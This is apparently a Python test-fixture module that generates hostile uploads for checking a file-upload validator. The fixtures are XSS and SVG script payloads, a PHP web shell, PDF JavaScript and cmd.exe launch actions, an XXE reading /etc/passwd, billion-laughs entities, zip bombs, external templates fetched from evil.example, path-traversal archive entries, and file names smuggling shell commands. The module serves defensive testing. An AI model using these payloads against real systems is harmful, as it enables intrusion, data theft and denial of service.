"""Files that must not get in, made on the spot: each with what is wrong about it. None of them is stored here."""

import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from PIL import Image

SCRIPT = b"<script>alert(document.domain)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
EXE = b"MZ\x90\x00\x03" + b"\0" * 60 + b"PE\0\0" + b"\0" * 200
PHP = b"<?php system($_GET['c']); ?>"
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Upload:
    """One file: its name, its bytes, and the type its browser claims."""

    what: str
    name: str
    content: bytes
    claims: str = "application/octet-stream"


@cache
def image(kind: str, width: int = 20, height: int = 20) -> bytes:
    """A plain picture."""
    written = BytesIO()
    Image.new("RGB", (width, height), "teal").save(written, kind)
    return written.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A few bytes that claim to be a picture of this size."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def office(parts: dict[str, bytes | str], extension: str = "docx", *, drop: tuple[str, ...] = ()) -> bytes:
    """A document with the parts that make it one, and these besides."""
    main = {
        "docx": "wordprocessingml.document",
        "xlsx": "spreadsheetml.sheet",
        "pptx": "presentationml.presentation",
    }[extension]
    kind = f"application/vnd.openxmlformats-officedocument.{main}.main+xml"
    whole: dict[str, bytes | str] = {
        "[Content_Types].xml": f'<Types><Override PartName="/main.xml" ContentType="{kind}"/></Types>',
        "_rels/.rels": "<Relationships/>",
        "main.xml": "<main>words</main>",
        **parts,
    }
    return zipped({name: content for name, content in whole.items() if name not in drop})


def odf(parts: dict[str, bytes | str], kind: str = "text") -> bytes:
    """A document of LibreOffice."""
    return zipped({"mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": "<office/>", **parts})


def zipped(parts: dict[str, bytes | str]) -> bytes:
    """A zip file of these parts."""
    written = BytesIO()
    with ZipFile(written, "w", ZIP_DEFLATED) as folder:
        for name, content in parts.items():
            folder.writestr(name, content)
    return written.getvalue()


def lying_bomb() -> bytes:
    """A document with a part that says it is small and is not."""
    whole = bytearray(office({"word/media.bin": b"\0" * 150_000_000}))
    true, small = struct.pack("<I", 150_000_000), struct.pack("<I", 10)
    return bytes(whole.replace(true, small))


def many_frames(count: int) -> bytes:
    """A GIF that moves for ever."""
    written = BytesIO()
    frames = [Image.new("RGB", (8, 8), (number % 250, number // 250 * 50, 90)) for number in range(count)]
    frames[0].save(written, "GIF", save_all=True, append_images=frames[1:], duration=10)
    return written.getvalue()


def relation(kind: str, target: str) -> dict[str, bytes | str]:
    """A part that loads something from elsewhere."""
    one = f'<Relationship Id="r1" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
    return {"word/_rels/document.xml.rels": f"<Relationships>{one}</Relationships>"}


ENTITY = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LAUGHS = '<!DOCTYPE a [<!ENTITY l "ha"><!ENTITY m "&l;&l;&l;&l;&l;&l;&l;&l;&l;&l;">]><a>&m;</a>'


def refused_images() -> Iterator[Upload]:
    """Called images by their names, and none."""
    jpeg, png, gif = image("JPEG"), image("PNG"), image("GIF")
    yield Upload("script as SVG", "logo.svg", SVG, "image/svg+xml")
    yield Upload("SVG as PNG", "logo.png", SVG, "image/png")
    yield Upload("compressed SVG", "logo.svgz", zlib.compress(SVG), "image/svg+xml")
    yield Upload("HTML as JPEG", "photo.jpg", HTML, "image/jpeg")
    yield Upload("HTML as GIF", "photo.gif", b"GIF89a" + HTML, "image/gif")
    yield Upload("script that is a comment of a GIF", "photo.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)")
    yield Upload("HTML as WebP", "photo.webp", b"RIFF\0\0\0\0WEBP" + HTML, "image/webp")
    yield Upload("PHP as PNG", "photo.png", PHP, "image/png")
    yield Upload("program as JPEG", "photo.jpeg", EXE, "image/jpeg")
    yield Upload("truncated JPEG", "photo.jpg", image("JPEG", 600, 600)[:900], "image/jpeg")
    yield Upload("truncated PNG", "photo.png", png[:60], "image/png")
    yield Upload("truncated GIF", "photo.gif", gif[:20], "image/gif")
    yield Upload("truncated WebP", "photo.webp", image("WEBP")[:30], "image/webp")
    yield Upload("only a JPEG's first bytes", "photo.jpg", b"\xff\xd8\xff\xe0", "image/jpeg")
    yield Upload("PNG of 60,000 by 60,000", "map.png", png_of(60_000, 60_000), "image/png")
    yield Upload("PNG of 2 by 2,000,000,000", "map.png", png_of(2, 2_000_000_000), "image/png")
    yield Upload("PNG of no width", "map.png", png_of(0, 10), "image/png")
    yield Upload("PNG of 12,000 by 8,000", "map.png", png_of(12_000, 8_000), "image/png")
    yield Upload("PNG with a wrong checksum", "map.png", png[:40] + b"\xff\xff" + png[42:], "image/png")
    yield Upload("GIF of 500 frames", "dance.gif", many_frames(500), "image/gif")
    yield Upload("PNG as JPEG", "photo.jpg", png, "image/jpeg")
    yield Upload("JPEG as GIF", "photo.gif", jpeg, "image/gif")
    yield Upload("empty image", "photo.png", b"", "image/png")
    yield Upload("NULs as image", "photo.png", b"\0" * 5_000, "image/png")
    yield Upload("TIFF", "scan.tiff", image("TIFF"), "image/tiff")
    yield Upload("icon", "site.ico", image("ICO"), "image/x-icon")
    yield Upload("Photoshop file as JPEG", "poster.jpg", b"8BPS\0\1" + b"\0" * 100, "image/jpeg")
    yield Upload("PostScript as PNG", "poster.png", b"%!PS-Adobe-3.0 EPSF-3.0\n(x) run", "image/png")
    yield Upload("two extensions, the last a program", "photo.jpg.exe", jpeg, "image/jpeg")
    yield Upload("two extensions, the last HTML", "photo.png.html", png, "image/png")
    yield Upload("no extension", "photo", jpeg, "image/jpeg")
    yield Upload("a dot at the end", "photo.jpg.", jpeg, "image/jpeg")
    yield Upload("a stream of Windows", "photo.jpg::$DATA", jpeg, "image/jpeg")
    yield Upload("claims to be an image", "run.exe", EXE, "image/png")


def refused_documents() -> Iterator[Upload]:
    """Called documents by their names, and none, or more than that."""
    yield from refused_pdfs()
    yield from refused_office_files()
    yield from refused_others()


def refused_pdfs() -> Iterator[Upload]:
    """Called PDF by their names."""
    yield Upload("program as PDF", "plan.pdf", EXE, "application/pdf")
    yield Upload("HTML as PDF", "plan.pdf", HTML, "application/pdf")
    yield Upload("HTML before a PDF", "plan.pdf", HTML + PDF, "application/pdf")
    yield Upload("PDF and zip at once", "plan.pdf", PDF + office({}), "application/pdf")
    yield Upload("PDF with a script", "plan.pdf", PDF[:9] + b"<</S/JavaScript/JS(app.alert(1))>>" + PDF[9:])
    yield Upload("PDF that starts a program", "plan.pdf", PDF[:9] + b"<</S/Launch/F(cmd.exe)>>" + PDF[9:])
    yield Upload("PDF with a file in it", "plan.pdf", PDF[:9] + b"<</Type/EmbeddedFile>>" + PDF[9:])
    yield Upload("PDF without an end", "plan.pdf", PDF[:30], "application/pdf")
    yield Upload("empty document", "plan.pdf", b"", "application/pdf")


def refused_office_files() -> Iterator[Upload]:
    """Called Word, Excel or PowerPoint by their names."""
    plain = office({})
    yield Upload("macros in Word", "plan.docx", office({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))
    yield Upload("macros in Excel", "plan.xlsx", office({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, "xlsx"))
    yield Upload("old macros in Excel", "plan.xlsx", office({"xl/macrosheets/sheet1.xml": "<m/>"}, "xlsx"))
    yield Upload("a document with macros by its type", "plan.docx", office({
        "[Content_Types].xml": '<Types><Default ContentType="application/vnd.ms-word.macroEnabled+xml"/></Types>'
    }))  # fmt: skip
    yield Upload("macro extension", "plan.docm", office({"word/vbaProject.bin": b"\xd0"}))
    yield Upload("ActiveX in PowerPoint", "talk.pptx", office({"ppt/activeX/activeX1.bin": b"\0"}, "pptx"))
    yield Upload("embedded object", "plan.docx", office({"word/embeddings/oleObject1.bin": EXE}))
    yield Upload("template from elsewhere", "plan.docx", office(relation("attachedTemplate", "https://evil.example/t")))
    yield Upload("picture from elsewhere", "plan.docx", office(relation("image", "file://evil.example/share/x.png")))
    yield Upload("external entity", "plan.docx", office({"word/document.xml": ENTITY}))
    yield Upload("entities that grow", "plan.xlsx", office({"xl/workbook.xml": LAUGHS}, "xlsx"))
    yield Upload("broken markup", "plan.docx", office({"word/document.xml": "<a><b></a>"}))
    yield Upload("zip bomb", "plan.docx", office({"word/media.bin": b"\0" * 150_000_000}))
    yield Upload("zip bomb that lies", "plan.docx", lying_bomb())
    yield Upload("thousands of parts", "plan.docx", office({f"word/{number}": "" for number in range(2_500)}))
    yield Upload("part that leaves its folder", "plan.docx", office({"../../etc/cron.d/x": "x"}))
    yield Upload("part with an absolute name", "plan.docx", office({"/etc/passwd": "x"}))
    yield Upload("part on another drive", "plan.docx", office({"C:\\x": "x"}))
    yield Upload("any zip as Word", "plan.docx", zipped({"run.exe": EXE}))
    yield Upload("Excel as Word", "plan.docx", office({}, "xlsx"))
    yield Upload("document without its types", "plan.docx", office({}, drop=("[Content_Types].xml",)))
    yield Upload("truncated document", "plan.docx", plain[: len(plain) // 2])
    yield Upload("program before a document", "plan.docx", EXE + plain)
    yield Upload("old Word", "plan.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    yield Upload("old Word by its name", "plan.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)


def refused_others() -> Iterator[Upload]:
    """Called something else by their names."""
    yield Upload("macros in LibreOffice", "plan.odt", odf({"Basic/Standard/Module1.xml": "<m/>"}))
    yield Upload("script in LibreOffice", "plan.ods", odf({"Scripts/python/x.py": "import os"}, "spreadsheet"))
    yield Upload("entity in LibreOffice", "plan.odt", odf({"content.xml": ENTITY}))
    yield Upload("spreadsheet as text", "plan.odt", odf({}, "spreadsheet"))
    yield Upload("HTML as text", "notes.txt", HTML, "text/plain")
    yield Upload("SVG as table", "table.csv", SVG, "text/csv")
    yield Upload("program as text", "notes.txt", EXE, "text/plain")
    yield Upload("web page", "page.html", HTML, "text/html")
    yield Upload("script", "run.js", b"alert(1)", "text/javascript")
    yield Upload("Java", "run.jar", zipped({"META-INF/MANIFEST.MF": "x"}))
    yield Upload("folder", "all.zip", zipped({"a.txt": "x"}))
    yield Upload("larger than 10 MB", "plan.txt", b"a" * (10 * 1024 * 1024 + 1), "text/plain")


NAMES: tuple[tuple[str, str], ...] = (
    ("out of its folder", "../../../../tmp/photo.png"),
    ("out of its folder, as Windows writes it", "..\\..\\web.config.png"),
    ("an absolute place", "/etc/passwd.png"),
    ("300 characters", "x" * 300 + ".png"),
    ("200 letters of four bytes", "\U0001f600" * 200 + ".png"),
    ("read from right to left", "photo\u202egnp.exe.png"),
    ("invisible letters", "pho\u200b\u2066to.png"),
    ("two extensions", "shell.php.png"),
    ("markup", "<img src=x onerror=alert(1)>.png"),
    ("quotation marks", 'a"; filename="b.html.png'),
    ("commands", "$(reboot);`id`.png"),
    ("a formula", "=HYPERLINK(1).png"),
    ("only dots", "....png"),
    ("hidden", ".htaccess.png"),
    ("a device of Windows", "CON.png"),
    ("capitals", "PHOTO.PNG"),
    ("a percent sign", "%2e%2e%2fphoto.png"),
)
"""Names for a file that is in order: it is kept, under a name that does no harm."""


@cache
def hostile_files() -> tuple[Upload, ...]:
    """All that is refused, made once: the bombs take a second."""
    return (*refused_images(), *refused_documents())
